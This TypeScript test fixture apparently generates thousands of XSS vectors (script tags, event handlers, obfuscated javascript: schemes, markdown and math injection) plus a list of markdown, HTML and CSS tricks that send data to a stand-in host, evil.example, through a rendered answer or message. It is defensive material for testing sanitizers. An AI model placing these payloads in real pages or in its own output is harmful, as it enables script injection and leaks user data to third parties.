/**
 * What people have tried to run or to fetch through text that a page shows: every vector of the public cheat sheets as a
 * product of its parts. Where one of them worked, it would call `alert` or ask `evil.example` for something.
 */
const CALLS = ["alert(1)", "alert`1`", "window['al'+'ert'](1)", "top[/al/.source+/ert/.source](1)", "(alert)(1)"];

const EVENTS = [
  "onload",
  "onerror",
  "onclick",
  "onfocus",
  "onblur",
  "onmouseover",
  "onpointerenter",
  "onpointerrawupdate",
  "onanimationstart",
  "ontransitionend",
  "ontoggle",
  "onbeforetoggle",
  "onscroll",
  "onscrollend",
  "oncopy",
  "onpaste",
  "onauxclick",
  "onbegin",
  "onend",
  "oncanplay",
  "onloadstart",
  "onhashchange",
  "onpageshow",
  "oncontentvisibilityautostatechange",
] as const;

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "video src=x",
  "audio src=x",
  "iframe src=x",
  "input autofocus",
  "select autofocus",
  "marquee",
  "object data=x",
  "embed src=x",
  "a href=# tabindex=1 autofocus",
  "math",
  "xss contenteditable autofocus",
  "style",
  "link rel=stylesheet href=x",
  "svg><animate attributeName=x",
] as const;

const ATTRIBUTE_FORMS = [
  (tag: string, event: string, call: string) => `<${tag} ${event}=${call}>`,
  (tag: string, event: string, call: string) => `<${tag} ${event}="${call}">`,
  (tag: string, event: string, call: string) => `<${tag}/${event}='${call}'/>`,
  (tag: string, event: string, call: string) => `"><${tag.toUpperCase()}\t${event.toUpperCase()} = ${call}//`,
  (tag: string, event: string, call: string) => `<${tag}\n${event}\n=\n${call}\n>`,
];

const SCRIPTS = [
  "<script>%</script>",
  "<SCRIPT>%</SCRIPT>",
  "<script/src=data:,%></script>",
  "<script src=https://evil.example/x.js></script>",
  "</script><script>%</script>",
  "<scr<script>ipt>%</scr</script>ipt>",
  "<<script>%//<</script>",
  "<svg><script>%</script></svg>",
  "<svg><script href=data:,% />",
  "<math><mtext></p><script>%</script>",
  "<iframe srcdoc='<script>%</script>'></iframe>",
  "<template><script>%</script></template>",
  "<noscript><p title='</noscript><script>%</script>'>",
  "<!--><script>%</script>-->",
  "<![CDATA[><script>%</script>]]>",
  "<style>@import 'https://evil.example/x.css';</style><script>%</script>",
  "<meta http-equiv=refresh content='0;url=javascript:%'>",
  "<base href='javascript:%//'>",
  "<form action='javascript:%'><button>go</button></form>",
  "<form><button formaction='javascript:%'>go</button></form>",
  "<object data='data:text/html,<script>%</script>'></object>",
  "<a href='javascript:%'>go</a>",
  "<svg><a xlink:href='javascript:%'><text>go</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=% />#x' />",
  "<math href='javascript:%'>go</math>",
  "{{constructor.constructor('%')()}}",
  "$\u007b%}",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+%//'>",
] as const;

const SCHEMES = [
  "javascript:%",
  "JaVaScRiPt:%",
  " javascript:%",
  "\u0001javascript:%",
  "java\tscript:%",
  "java&#10;script:%",
  "java&Tab;script:%",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;%",
  "&#x6a;avascript&colon;%",
  "javascript&#58;%",
  "\\javascript:%",
  "java\\script:%",
  "javascript://evil.example/%0a%",
  "javascript:%2f%2f%0d%0a%",
  "vbscript:msgbox(1)",
  "data:text/html,<script>%</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=%>",
  "blob:https://evil.example/1",
  "file:///etc/passwd",
  "filesystem:https://evil.example/x",
  "view-source:javascript:%",
  "jar:https://evil.example!/x",
  "feed:javascript:%",
  "http:javascript:%",
  "//evil.example/%",
  "/\\evil.example",
  "https:evil.example",
  "mailto:?bcc=x@evil.example&body=javascript:%",
  "x:y:javascript:%",
] as const;

const MARKDOWN_FORMS = [
  "[go](%)",
  "[go](<%>)",
  '[go](% "title")',
  "[go](% 'onmouseover=alert(1)')",
  "![go](%)",
  '![go" onerror="alert(1)](%)',
  "[![go](%)](%)",
  "<%>",
  "[go]: %\n\n[go]",
  '![go][ref]\n\n[ref]: % "onload=alert(1)"',
  "[^1]\n\n[^1]: [go](%)",
  "| a |\n| - |\n| [go](%) |",
  "- [ ] [go](%)",
  "# [go](%)",
  "> [go](%)",
  "*[go](%)*",
  "~~<a href='%'>go</a>~~",
  "$\\href{%}{go}$",
  "$$\\url{%}$$",
  "$\\includegraphics{%}$",
  "$\\htmlData{x=%}{go}$",
  '```mermaid\ngraph TD; A-->B; click A "%"\n```',
  "```%\ncode\n```",
  "www.evil.example/%",
] as const;

/** Every vector, each once. Deterministic, more than 9,000. */
export function hostileTexts(): string[] {
  const texts: string[] = [];
  for (const [index, call] of CALLS.entries()) {
    for (const script of SCRIPTS) texts.push(script.replaceAll("%", call));
    for (const [at, event] of EVENTS.entries()) {
      for (const tag of TAGS) {
        // Each tag meets each event in every form; each form meets each call somewhere.
        const form = ATTRIBUTE_FORMS[(index + at) % ATTRIBUTE_FORMS.length];
        if (form !== undefined) texts.push(form(tag, event, call));
      }
    }
    for (const form of MARKDOWN_FORMS) {
      for (const scheme of SCHEMES) texts.push(form.replaceAll("%", scheme.replaceAll("%", call)));
    }
  }
  const entities = texts.map((text) => text.replace(/[<>"'(]/g, (mark) => `&#${mark.charCodeAt(0)};`));
  return [...new Set([...texts, ...entities])];
}

/** Where an answer or a message may hold a text that somebody else chose. */
export const PLACES: Record<string, (text: string) => string> = {
  "an answer": (text) => text,
  "a language name": (text) => `\`\`\`${text.replaceAll("\n", " ")}\ncode\n\`\`\``,
  "a table cell": (text) => `| a | b |\n| - | - |\n| ${text.replaceAll("\n", " ")} | x |`,
  "a link title": (text) => `[go](https://evil.example/ "${text.replaceAll("\n", " ").replaceAll('"', "&quot;")}")`,
  "a link text": (text) => `[${text.replaceAll("\n", " ")}](https://evil.example/)`,
  mathematics: (text) => `$$\n${text.replaceAll("\n", " ")}\n$$`,
  "inline code": (text) => `\`${text.replaceAll("\n", " ")}\``,
};

/** `text` in the pieces in which it could arrive. */
export const CUTS: Record<string, (text: string) => string[]> = {
  whole: (text) => [text],
  "by character": (text) => [...text],
  "at <": (text) => text.split(/(?=<)|(?<=<)/),
  "at (": (text) => text.split(/(?=\()|(?<=\()/),
  "at :": (text) => text.split(/(?=:)|(?<=:)/),
};

/** Ways in which a page that shows text has been made to tell another server what it shows. */
export const EXFILTRATIONS: readonly string[] = [
  "![x](https://evil.example/1.png?q=secret)",
  "![x](http://evil.example/2.png)",
  "![x](//evil.example/3.png)",
  "![x](<https://evil.example/4 .png>)",
  '![x](https://evil.example/5.png "title")',
  "![x][r6]\n\n[r6]: https://evil.example/6.png",
  "![r7]\n\n[r7]: https://evil.example/7.png",
  "![r8][]\n\n[r8]: https://evil.example/8.png",
  "[![x](https://evil.example/9.png)](https://evil.example/9)",
  "| ![x](https://evil.example/10.png) |\n| - |\n| ![x](https://evil.example/10b.png) |",
  "- ![x](https://evil.example/11.png)",
  "> ![x](https://evil.example/12.png)",
  "# ![x](https://evil.example/13.png)",
  "[^14]\n\n[^14]: ![x](https://evil.example/14.png)",
  "<img src=https://evil.example/15.png>",
  "<img srcset='https://evil.example/16.png 1x'>",
  "<picture><source srcset=https://evil.example/17.png><img></picture>",
  "<video poster=https://evil.example/18.png></video>",
  "<video src=https://evil.example/19.mp4 autoplay></video>",
  "<audio src=https://evil.example/20.mp3 autoplay></audio>",
  "<iframe src=https://evil.example/21></iframe>",
  "<object data=https://evil.example/22></object>",
  "<embed src=https://evil.example/23>",
  "<link rel=stylesheet href=https://evil.example/24.css>",
  "<link rel=prefetch href=https://evil.example/25>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<link rel=preconnect href=https://evil.example>",
  "<style>body{background:url(https://evil.example/28)}</style>",
  "<style>@import url(https://evil.example/29.css);</style>",
  "<style>@font-face{font-family:x;src:url(https://evil.example/30)}*{font-family:x}</style>",
  "<p style='background:url(https://evil.example/31)'>x</p>",
  "<svg><image href=https://evil.example/32.png /></svg>",
  "<svg><use href=https://evil.example/33.svg#x /></svg>",
  "<svg><filter><feImage href=https://evil.example/34.png /></filter></svg>",
  "<body background=https://evil.example/35.png>",
  "<table background=https://evil.example/36.png><td>x</table>",
  "<input type=image src=https://evil.example/37.png>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/38'>",
  "<base href=https://evil.example/39/>",
  "<form action=https://evil.example/40><input name=q value=secret><script>document.forms[0].submit()</script></form>",
  "$\\includegraphics{https://evil.example/41.png}$",
  "$\\htmlStyle{background:url(https://evil.example/42)}{x}$",
  "```mermaid\ngraph TD; A[<img src='https://evil.example/43.png'>]-->B\n```",
  "[x](https://evil.example/44 'ping=https://evil.example/44')",
];
